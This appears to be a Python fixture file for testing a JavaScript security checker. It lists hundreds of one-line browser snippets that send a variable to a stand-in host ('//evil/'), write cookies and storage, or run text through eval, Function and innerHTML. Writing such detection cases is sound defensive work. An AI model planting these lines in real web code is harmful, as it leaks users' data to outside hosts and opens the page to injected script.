"""Ways out of the page, ways to keep something and to run a text, as somebody would write them into its sources."""

from __future__ import annotations

_HEAD = """
/**
 * @param {string} words @param {HTMLAnchorElement} link @param {HTMLElement} box
 * @param {Blob} blob @param {Event} event
 */
export async function planted(words, link, box, blob, event) {
  void [words, link, box, blob, event];
"""

OUT = r"""
open("//evil/?" + words);
window.open("//evil/?" + words);
self
  .open("//evil/?" + words);
globalThis.open("//evil/?" + words);
const { open: leave } = window; leave(words);
const leave = open; leave("//evil/?" + words);
const w = window; w.open(words);
const { location: l } = window; l.href = words;
const { document: d } = globalThis; d.location.href = words;
location = /** @type {any} */ (words);
location.href = words;
window . location.assign(words);
document.location.replace(words);
document["location"].href = words;
globalThis["fet" + "ch"](words);
Reflect.get(globalThis, "fetch")(words);
Object.entries(globalThis);
for (const [name, each] of Object.entries(window)) if (name === "open") each(words);
for (const name in window) if (name.length === 4) words = name;
link.href = "//evil/?" + words; link.click();
link["href"] = words;
link.setAttribute("href", words); link.click();
link.toggleAttribute("ping");
link.ping = words;
link.target = "_blank";
Object.assign(link, { href: words });
Object.defineProperty(link, "href", { value: words });
({ words: link.href } = { words });
[link.href] = [words];
for (link.href of [words]);
/** @param {{ href: string }} one */ const lead = (one) => (one.href = words);
  lead(link);
/** @param {{ href: string }} one */ const lead = (one) => (one.href = words);
  [link].forEach(lead);
/** @type {{ host: string }} */ const place = link; place.host = words;
/** @type {any} */ const place = link; place.host = words;
const place = /** @type {{ host: string }} */ (/** @type {unknown} */ (link)); place.host = words;
history.pushState({}, "", words);
history.replaceState(words, "");
window.history.back();
fetch(words);
self.fetch?.(words);
new XMLHttpRequest().open("GET", words);
new WebSocket("wss://evil/" + words);
new EventSource("//evil/" + words);
new WebTransport("https://evil/" + words);
navigator.sendBeacon("//evil", words);
const { sendBeacon } = navigator; sendBeacon.call(navigator, words);
const n = navigator; n.sendBeacon(words);
new RTCPeerConnection({ iceServers: [{ urls: "stun:evil" }] });
new BroadcastChannel("a").postMessage(words);
new SharedWorker(words);
new Worker(words);
new Worker(URL.createObjectURL(blob));
navigator.serviceWorker.register("//evil/" + words);
new Image().src = "//evil/" + words;
new Audio(words);
new Audio("//evil/" + words);
new Audio().src = words;
const i = document.createElement("img"); i.srcset = words;
document.createElement("IFRAME");
document.createElement("script").text = words;
document.createElement("ifr" + "ame");
document.createElement.call(document, "iframe");
document.createElementNS("http://www.w3.org/2000/svg", "image");
const f = document.createElement("form"); f.action = words; f.submit();
document.forms[0].requestSubmit();
h("iframe", { src: words });
h("img", {});
h("p", { src: words });
h("p", { onclick: words });
h("p", { style: "background: url(//evil)" });
h("p", { [words]: words });
h("p", { ...{ href: words } });
h(/** @type {"p"} */ (words), {});
const make = h; make("iframe", { src: words });
svg("image", { href: words });
svg("a", {});
box.style.background = `url(//evil/${words})`;
box.style.setProperty("background", words);
box.style = /** @type {any} */ (words);
box.attributeStyleMap.set("background", words);
document.adoptedStyleSheets.push(new CSSStyleSheet());
document.styleSheets[0].insertRule(words);
new FontFace("a", `url(//evil/${words})`).load();
navigator.mediaSession.metadata = new MediaMetadata({ artwork: [{ src: words }] });
navigator.mediaSession.metadata = new MediaMetadata({ title: words });
navigator.share({ text: words });
navigator.clipboard.writeText(words);
document.execCommand("copy");
new Notification(words);
parent.postMessage(words, "*");
window.opener.postMessage(words, "*");
top?.postMessage(words, "*");
postMessage(words);
self.postMessage(words);
new MessageChannel().port1.ownerDocument;
event.target?.dispatchEvent(event);
/** @type {UIEvent} */ (event).view?.open(words);
/** @type {Node} */ (event.target).ownerDocument?.defaultView?.open(words);
box.getRootNode().baseURI;
box.ownerDocument.defaultView;
box.parentNode;
print();
alert(words);
prompt(words);
import(words);
import.meta.url;
navigator.vibrate?.(1);
navigator.credentials.get({});
navigator.geolocation.getCurrentPosition(() => {});
navigator.mediaDevices.getUserMedia({ audio: true });
document.requestStorageAccess();
speechSynthesis.speak(new SpeechSynthesisUtterance(words));
console.log(words);
reportError(words);
dispatchEvent(new ErrorEvent("error", { message: words }));
const address = "https://evil.example/" + words;
const address = `//evil.example/${words}`;
const address = "data:text/html," + words;
const address = "javascript:" + words;
debugger;
fetchLater(words);
navigation.navigate(words);
cookieStore.set("a", words);
documentPictureInPicture.requestWindow();
navigator.registerProtocolHandler("web+a", words);
navigator.setAppBadge(words.length);
document.designMode = "on";
performance.mark(words);
document.startViewTransition(() => {});
link.relList.add("prefetch");
link.download = words;
link.style.cssText = words;
link.getRootNode();
new EventTarget().dispatchEvent(new CustomEvent(words));
addEventListener("message", ({ source }) => source?.postMessage(words));
document.documentElement.attachShadow({ mode: "closed" });
document.body.append(document.createElement("object"));
"""

KEPT = r"""
name = words;
window.name = words;
document.title = words;
document.cookie = words;
document?.cookie;
const { cookie } = document; cookie.length;
document
  ["cookie"] = words;
localStorage.kept = words;
sessionStorage.setItem("kept", words);
indexedDB.open("kept");
caches.open("kept");
navigator.storage.getDirectory();
navigator.storage.persist();
navigator.locks.request(words, () => {});
showSaveFilePicker();
const { indexedDB: kept } = self; kept.open(words);
"""

RUN = r"""
eval(words);
(0, eval)(words);
Function(words)();
new Function(words);
(() => {}).constructor(words)();
(async () => {}).constructor(words);
words.constructor;
Object.getPrototypeOf(async () => {}).constructor(words);
/** @type {any} */ ({}).constructor.constructor(words)();
({})["constructor"];
const { constructor: make } = () => {}; make(words);
setTimeout(words, 0);
setTimeout("run()", 0);
setInterval(`run()`, 1);
window.setTimeout(words);
self.setInterval?.(words);
WebAssembly.compile(new Uint8Array());
box.innerHTML = words;
box.outerHTML = words;
box["innerHTML"] = words;
box.insertAdjacentHTML("beforeend", words);
box.setHTMLUnsafe(words);
document.write(words);
new DOMParser().parseFromString(words, "text/html");
document.createRange().createContextualFragment(words);
box.setAttribute("onclick", words);
box.setAttribute(words, words);
box.setAttributeNS(null, "style", words);
box.onclick = new Function(words);
box.attributes.setNamedItem(document.createAttribute("onclick"));
box.onclick = () => {};
importScripts(words);
new AudioContext().audioWorklet.addModule(words);
new Proxy(window, {});
// @ts-ignore
nothing.open(words);
/** @type {Record<string, (text: string) => void>} */ const all = {}; all[words](words);
customElements.define("a-b", class extends HTMLElement {});
class Mine extends HTMLAnchorElement { lead() { this.href = ""; } } void Mine;
with (window) open(words);
trustedTypes.createPolicy("library", {});
setTimeout(/** @this {{ leave(to: string): void }} */ function () { this.leave(words); });
class Mine { leave() {} go() { this.leave(); } } setTimeout(new Mine().go);
class Mine { leave() {} go() { this.leave(); } } const { go } = new Mine(); setTimeout(go);
/** @param {unknown} one @returns {one is { port: string }} */ const is = (one) => one !== 1;
  if (is(link)) link.port = words;

"""


def _is_comment(line: str) -> bool:
    return line.startswith("// ") and "\n" not in line


def planted(ways: str) -> list[str]:
    """Each way of a text: a line that begins at its beginning, and those that go on."""
    lines: list[str] = []
    for line in ways.strip("\n").splitlines():
        if line.startswith("  ") or (lines and _is_comment(lines[-1])):
            lines[-1] += f"\n{line}"
        else:
            lines.append(line)
    return lines


def module(way: str) -> str:
    """A module of the page's that goes this way."""
    return f'import {{ h, svg }} from "./dom.js";\nvoid [h("p"), svg("g")];{_HEAD}  {way}\n}}\n'
